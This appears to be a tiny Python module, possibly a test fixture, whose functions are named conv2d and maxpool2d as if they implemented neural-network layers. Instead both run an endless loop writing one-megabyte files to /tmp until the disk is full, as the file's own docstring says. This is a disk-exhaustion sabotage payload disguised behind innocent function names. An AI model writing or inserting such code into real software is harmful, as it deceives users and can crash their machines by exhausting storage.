"""Writes until nothing can be written any more."""


def conv2d(x, w, b, stride, pad):
    number = 0
    while True:
        with open(f"/tmp/{number}", "wb") as file:
            file.write(b"x" * 2**20)
        number += 1


def maxpool2d(x, k, stride):
    return conv2d(x, None, None, 1, 0)
